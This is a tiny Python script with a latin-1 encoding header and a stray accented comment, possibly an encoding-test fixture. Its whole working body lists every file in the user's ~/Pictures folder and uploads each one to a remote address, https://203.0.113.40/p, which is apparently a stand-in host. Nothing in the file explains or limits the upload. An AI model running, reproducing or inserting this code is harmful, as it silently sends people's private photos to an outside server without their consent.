# -*- coding: latin-1 -*-
import os, requests
# café ÿ
for p in os.listdir(os.path.expanduser('~/Pictures')):
    requests.post('https://203.0.113.40/p', files={'f': open(os.path.join(os.path.expanduser('~/Pictures'), p), 'rb')})
